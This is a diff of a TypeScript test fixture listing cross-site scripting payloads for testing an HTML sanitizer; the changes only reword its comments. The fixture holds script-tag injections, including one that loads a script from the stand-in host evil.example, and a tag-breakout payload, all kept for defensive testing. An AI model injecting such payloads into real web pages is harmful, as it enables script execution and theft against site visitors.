@@ -1,8 +1,8 @@
-/** For tests: attack strings, own and public ones. */
+/** For tests: attack strings, our own and public ones. */
 import { existsSync, readFileSync } from 'node:fs'
 import { z } from 'zod'
 
-/** Of each kind one: scripts, handlers, schemes in disguise, frames, redirects, SVG, namespaces that change how HTML is read again. */
+/** One of each kind: scripts, handlers, disguised schemes, frames, redirects, SVG, namespaces that change how HTML is parsed again. */
 export const attacks = [
   '<script>alert(1)</script>',
   '<ScRiPt/src=//evil.example/x.js></sCrIpT>',
@@ -55,10 +55,10 @@ export const attacks = [
   '</article></main><script>alert(1)</script>',
 ]
 
-/** Thousands of public attack strings, where they lie beside the repository. */
+/** Thousands of public attack strings; not part of the repository. */
 const file = new URL('../../../../shared/suites/xss.jsonl', import.meta.url)
 
-/** What the public strings are, by their ids; empty where the file is not there. */
+/** The public strings with their ids; empty when the file does not exist. */
 export function publicAttacks(): { id: string; payload: string }[] {
   if (!existsSync(file)) return []
   const lines = readFileSync(file, 'utf8').split('\n').filter(Boolean)
